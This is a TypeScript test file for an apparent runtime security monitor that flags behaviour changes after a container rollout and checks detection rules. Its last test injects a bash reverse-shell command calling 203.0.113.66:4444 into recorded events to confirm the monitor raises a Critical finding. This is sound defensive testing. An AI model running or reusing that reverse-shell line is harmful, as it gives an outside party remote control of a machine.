import type { Event } from "@bailiff/proto";
import { expect, test } from "vitest";
import { policyFor, verdictsOn } from "../../../testing/engine.ts";
import { delayed } from "../../../testing/random.ts";
import { recorded } from "../../../testing/recordings.ts";

const rollout = recorded("dev-benign-2-rollout");
const changes = (events: readonly Event[], policies: Parameters<typeof policyFor>[1][] = []) =>
  verdictsOn(events, { policies: policies.map((spec) => policyFor("support", spec)) }).flatMap(({ spec }) =>
    spec.findings
      .filter(({ rule }) => rule === "rollout-change")
      .map((finding) => ({ ...finding, pod: spec.pod.name })),
  );

test("all that a new image does anew is one Low finding for the agent, which lists it, and no other is about habits", () => {
  const [finding, ...rest] = changes(rollout);
  expect(rest).toEqual([]);
  expect(finding).toMatchObject({ severity: "Low", gate: "Novelty" });
  expect(finding?.message).toMatch(/^changed with this rollout of sha256:.*: .*python to 203\.0\.113\.45:443/);
  const verdict = verdictsOn(rollout).find(({ spec }) => spec.pod.name === finding?.pod);
  expect(verdict?.spec).toMatchObject({ severity: "Low", recommendation: "None" });
  const ofAgent = verdictsOn(rollout).filter(({ spec }) => spec.agent.name === "deployment/support-bot");
  expect(ofAgent.flatMap(({ spec }) => spec.findings).map(({ rule }) => rule)).not.toContain("first-seen-destination");
});

test("it is on the same pod, and lists the same, in whatever order events arrive", () => {
  const wanted = changes(rollout).map(({ pod, message }) => [pod, message]);
  for (const seed of [1, 2, 3])
    expect(changes(delayed(rollout, 30, seed)).map(({ pod, message }) => [pod, message])).toEqual(wanted);
});

test("a policy may disable it", () => {
  expect(changes(rollout, [{ rules: { disabled: ["rollout-change"] } }])).toEqual([]);
});

test("a deterministic rule fires in a rollout as ever", () => {
  const events = recorded("dev-attack-1").map((event) => event);
  const fresh = verdictsOn(events).flatMap(({ spec }) => spec.findings.map(({ rule }) => rule));
  expect(fresh).toContain("reverse-shell");
  const attacked = rollout.map((event) =>
    event.type === "exec" && event.process.pod?.workload === "support-bot"
      ? {
          ...event,
          process: {
            ...event.process,
            binary: "/usr/bin/bash",
            arguments: "-c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
          },
        }
      : event,
  );
  const found = verdictsOn(attacked).flatMap(({ spec }) => spec.findings);
  expect(found.filter(({ rule }) => rule === "reverse-shell").map(({ severity }) => severity)).toContain("Critical");
});
